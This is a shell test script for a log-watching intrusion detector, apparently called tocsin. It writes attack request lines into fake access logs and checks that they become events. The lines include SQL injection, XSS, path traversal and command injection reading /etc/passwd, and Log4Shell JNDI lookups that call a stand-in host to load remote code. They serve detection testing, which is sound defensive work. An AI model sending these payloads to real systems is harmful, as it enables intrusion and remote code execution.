#!/bin/sh
# tocsin serve following access logs ([logwatch] logs): attacks written to the
# log become events with their sample lines; rotation by rename, copytruncate
# and truncation are followed; a restart neither loses nor repeats lines,
# also when the log was rotated while tocsin was stopped; an over-long line
# does not lose the next one; a POST to a script the guard saw appear is a
# webshell call.
. "$(dirname "$0")/lib.sh"
export TOCSIN_DATA="$T/data" TOCSIN_CACHE="$T/cache"
"$TOCSIN" init --org 示范开发区管委会 >"$T/init" || { not_ok "init"; exit 1; }
D="$TOCSIN_DATA"
"$TOCSIN" user add lead --role leader --password-file /dev/stdin >/dev/null <<'EOF'
a long enough password
EOF
"$TOCSIN" setting set logwatch.flush_ms 200 --as lead >/dev/null
LOG="$T/access.log"
OA="$T/oa.log"
: >"$LOG"
printf '\n[logwatch]\nlogs = %s@门户网站, %s@OA系统\n' "$LOG" "$OA" >>"$D/tocsin.conf"

q() { sqlite3 "$D/tocsin.db" "$1"; }
# hits RULE CLIENT: the hits recorded for a rule and client, summed over its events.
hits() {
    q "SELECT coalesce(sum(json_extract(details, '$.hits')), 0) FROM events WHERE source = 'logwatch'
       AND json_extract(details, '$.rule') = '$1' AND json_extract(details, '$.client') = '$2'"
}
line() { # client uri [status] [method]
    printf '%s - - [27/Nov/2026:10:%02d:%02d +0800] "%s %s HTTP/1.1" %s 512 "-" "Mozilla/5.0"\n' \
        "$1" $(($(date +%s) / 60 % 60)) $(($(date +%s) % 60)) "${4:-GET}" "$2" "${3:-200}"
}

serve_start
line 203.0.113.1 "/news.php?id=1+union+select+1,2,3--" >>"$LOG"
line 10.0.0.1 "/index.html" >>"$LOG"
# The first start compiles the rules and the Core Rule Set (seconds; longer
# under the sanitizers), so the first event may take a while.
wait_for '[ "$(hits sqli-union-select 203.0.113.1)" = 1 ]' 900
same "$(hits sqli-union-select 203.0.113.1)" 1 "an attack written to the log becomes an event"
U="source = 'logwatch' AND json_extract(details, '$.rule') = 'sqli-union-select'"
same "$(q "SELECT category || '/' || subcategory || ' ' || asset FROM events WHERE $U")" \
    "network-attack/injection 门户网站" "with the plan's category and the log's asset"
same "$(q "SELECT json_extract(details, '$.samples[0]') LIKE '%union+select%' FROM events WHERE $U")" \
    1 "and the sample line as evidence"
# The Core Rule Set runs inside serve too (its default directory).
wait_for '[ "$(hits crs-942100 203.0.113.1)" = 1 ]'
same "$(hits crs-942100 203.0.113.1)" 1 "the Core Rule Set's rules name it as well"
# More hits of the same detection update its event; they are not new events.
line 203.0.113.1 "/news.php?id=2+union+select+1,2,3--" >>"$LOG"
line 203.0.113.1 "/news.php?id=3+union+select+1,2,3--" >>"$LOG"
wait_for '[ "$(hits sqli-union-select 203.0.113.1)" = 3 ]'
same "$(q "SELECT count(*) || ' ' || json_extract(details, '$.hits') FROM events WHERE $U")" \
    "1 3" "later hits update the same event"
# A line written in two parts is one line.
printf '203.0.113.2 - - [27/Nov/2026:10:00:00 +0800] "GET /x?a=<scr' >>"$LOG"
sleep 0.5
printf 'ipt>alert(1)</script> HTTP/1.1" 200 1 "-" "-"\n' >>"$LOG"
wait_for '[ "$(hits xss-script-tag 203.0.113.2)" = 1 ]'
same "$(hits xss-script-tag 203.0.113.2)" 1 "a line written in two parts is read as one"
# An over-long line is dropped whole; the line after it is read.
head -c 200000 /dev/zero | tr '\0' 'A' >>"$LOG"
printf '\n' >>"$LOG"
line 203.0.113.3 "/.git/config" 404 >>"$LOG"
wait_for '[ "$(hits sensitive-vcs 203.0.113.3)" = 1 ]'
same "$(hits sensitive-vcs 203.0.113.3)" 1 "the line after an over-long one is read"

# Rotation by rename: the old file's last lines, then the new file.
line 203.0.113.4 "/etc/passwd?x=../../etc/passwd" >>"$LOG"
mv "$LOG" "$LOG.1"
line 203.0.113.4 "/?q=../../../etc/passwd" >>"$LOG.1" # written by the server before it reopens
line 203.0.113.4 "/view?f=../../../../etc/passwd" >"$LOG"
wait_for '[ "$(hits traversal-dotdot 203.0.113.4)" = 3 ]'
same "$(hits traversal-dotdot 203.0.113.4)" 3 "rotation by rename: the old file is finished, the new one read"
# copytruncate: the file is copied away and cut to nothing.
cp "$LOG" "$LOG.2"
: >"$LOG"
sleep 0.5
line 203.0.113.5 "/x?cmd=;cat+/etc/passwd" >>"$LOG"
wait_for '[ "$(hits cmdi-shell 203.0.113.5)" = 1 ]'
same "$(hits cmdi-shell 203.0.113.5)" 1 "copytruncate: the truncated file is read from its start"
# Deleted, and written again later: the new file is followed.
rm "$LOG"
sleep 0.5
line 203.0.113.11 "/.svn/entries" 404 >"$LOG"
wait_for '[ "$(hits sensitive-vcs 203.0.113.11)" = 1 ]'
same "$(hits sensitive-vcs 203.0.113.11)" 1 "a log deleted and created again is followed"
# The second log, with its own asset.
line 203.0.113.6 "/seeyon/htmlofficeservlet" 200 POST >>"$OA"
wait_for '[ "$(hits oa-seeyon 203.0.113.6)" = 1 ]'
same "$(q "SELECT asset FROM events WHERE json_extract(details, '$.rule') = 'oa-seeyon'")" "OA系统" \
    "a log that appears after the start is followed, with its asset"

# A restart neither loses nor repeats: lines written while stopped are read
# once; nothing read before is read again.
serve_stop
same "$stop_rc" 0 "serve stops cleanly with logwatch"
before=$(q "SELECT count(*) FROM events WHERE source = 'logwatch'")
line 203.0.113.7 "/wp-login.php" 404 >>"$LOG"
serve_start
wait_for '[ "$(hits cms-wordpress-probe 203.0.113.7)" = 1 ]'
same "$(hits cms-wordpress-probe 203.0.113.7)" 1 "a line written while stopped is read after the restart"
sleep 1
same "$(q "SELECT count(*) FROM events WHERE source = 'logwatch'")" "$((before + 1))" \
    "and nothing read before is read again"
same "$(hits sqli-union-select 203.0.113.1)" 3 "the earlier detections are not counted twice"
# Rotated while stopped: the rest of the old file (now .1) is read first.
serve_stop
line 203.0.113.8 "/?x=\${jndi:ldap://198.51.100.7/a}" >>"$LOG"
rm -f "$LOG.1"
mv "$LOG" "$LOG.1"
line 203.0.113.8 "/?x=\${jndi:rmi://198.51.100.7/b}" >"$LOG"
serve_start
wait_for '[ "$(hits log4shell-jndi 203.0.113.8)" -ge 2 ]'
same "$(hits log4shell-jndi 203.0.113.8)" 2 "rotated while stopped: the old file's rest and the new file"
same "$(q "SELECT offset FROM log_positions WHERE path = '$LOG'")" "$(wc -c <"$LOG" | tr -d ' ')" \
    "the position stored is the end of the log"

# The guard's new script: a POST to it is a webshell call.
W="$T/www"
mkdir -p "$W/upload"
serve_stop
printf '\n[guard]\nprotect = %s\nmode = restore\n' "$W" >>"$D/tocsin.conf"
serve_start
wait_for '[ -d "$D/guard" ] && grep -rqs "$W" "$D"/guard/*/root' 50
sleep 0.5
echo '<?php echo 1;' >"$W/upload/logo.php"
wait_for '[ "$(q "SELECT count(*) FROM events WHERE source = '"'"'guard'"'"'")" -ge 1 ]'
sleep 0.5
line 203.0.113.9 "/upload/logo.php" 404 POST >>"$LOG"
wait_for '[ "$(hits webshell-new-script 203.0.113.9)" = 1 ]'
same "$(hits webshell-new-script 203.0.113.9)" 1 "a POST to a script the guard saw appear is a webshell call"
serve_stop
same "$stop_rc" 0 "serve stops cleanly"
# tocsin logscan --data reads the guard's scripts too.
line 203.0.113.10 "/upload/logo.php" 200 POST >"$T/later.log"
"$TOCSIN" logscan --json "$T/later.log" >"$T/ls.json" 2>/dev/null
same "$(jq '[.detections[].rule] | index("webshell-new-script")' "$T/ls.json")" null \
    "without --data, logscan knows nothing of the guard"
"$TOCSIN" logscan --json --data "$D" "$T/later.log" >"$T/ls.json" 2>/dev/null
same "$(jq -r '[.detections[].rule] | map(select(. == "webshell-new-script")) | length' "$T/ls.json")" 1 \
    "with --data, a request for a script the guard saw appear is a webshell call"
